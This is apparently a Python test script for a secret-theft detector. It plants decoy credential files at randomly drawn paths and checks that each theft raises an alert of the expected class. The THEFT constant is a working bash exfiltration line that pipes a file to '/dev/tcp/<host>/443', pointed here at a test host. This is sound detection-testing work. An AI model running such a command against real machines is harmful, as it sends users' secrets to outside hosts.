#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Secrets where they lie: places drawn at random from tests/unit/places.txt are made, and stolen with cat and a socket.
Each theft is an alert of the class that the list names. BW_SEED= repeats a draw, BW_DRAWS= changes its size."""

import contextlib
import os
import random
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
from cases import Scene, cases
from harness import touches
from net import HOST_V4
from tap import require_equal

DRAWS = int(os.environ.get("BW_DRAWS", "60"))
SEED = int(os.environ.get("BW_SEED", random.SystemRandom().randrange(1 << 32)))
HOME = "/home/ana"
# As bash has it: the socket is connected before the secret is read.
THEFT = 'exec cat -- "$1" >"/dev/tcp/$2/443"'
# A root file system with the programs of this machine, in which any place can be made, for a namespace of its own.
SETUP = """
mount -t tmpfs -o mode=755 tmpfs "$1" && cd "$1" && mkdir proc usr old || exit
mount --bind /proc proc && mount --bind /usr usr || exit
for directory in bin sbin lib lib64; do
    if [ -L "/$directory" ]; then
        cp -P "/$directory" "$directory"
    elif [ -d "/$directory" ]; then
        mkdir "$directory" && mount --bind "/$directory" "$directory" || exit
    fi
done
pivot_root . old && umount -l old || exit
echo ready
exec cat
"""


def places():
    """(path, class) of those that a test can make: files of the kernel are no files on a disk."""
    with open(os.path.join(harness.SOURCE_ROOT, "tests/unit/places.txt"), encoding="ascii") as lines:
        fields = [line.rstrip("\n").split("\t") for line in lines if not line.startswith("#")]
    return [(path.replace("~", HOME, 1) if path[0] == "~" else path, name) for path, name, *_ in fields
            if name != "-" and not path.startswith(("/proc/", "/dev/"))]


@contextlib.contextmanager
def root_file_system(directory):
    """The PID of the process that has it."""
    os.mkdir(directory, 0o755)
    with subprocess.Popen(["unshare", "--mount", "--propagation", "private", "sh", "-c", SETUP, "setup", directory],
                          stdin=subprocess.PIPE, stdout=subprocess.PIPE) as holder:
        try:
            require_equal(holder.stdout.readline(), b"ready\n", "the root file system")
            yield holder.pid
        finally:
            holder.stdin.close()


def stolen(scene, holder, path, name):
    scene.home.decoy(f"/proc/{holder}/root{path}".encode())
    result = scene.net.run(["nsenter", f"--mount=/proc/{holder}/ns/mnt", "bash", "-c", THEFT, "theft", path, HOST_V4])
    require_equal((result.returncode, result.stderr), (0, ""), "the theft")
    alert = scene.bw.wait_alert(lambda a: touches(a, path.encode()), f"the alert of {path}")
    require_equal([entry["class"] for entry in alert["files"]], [name], "the class")


def main():
    chance, all_places = random.Random(SEED), places()
    with cases() as (t, net, home):
        print(f"# BW_SEED={SEED}: {DRAWS} of {len(all_places)} places")
        scene = Scene(net, home)
        with scene.bw, root_file_system(f"{home.root.decode()}/root") as holder:
            for path, name in chance.sample(all_places, min(DRAWS, len(all_places))):
                t.case(f"{name}: {path}", stolen, scene, holder, path, name)
            t.case("no loss", lambda: scene.bw.stop() and scene.bw.require_no_loss())


if __name__ == "__main__":
    main()
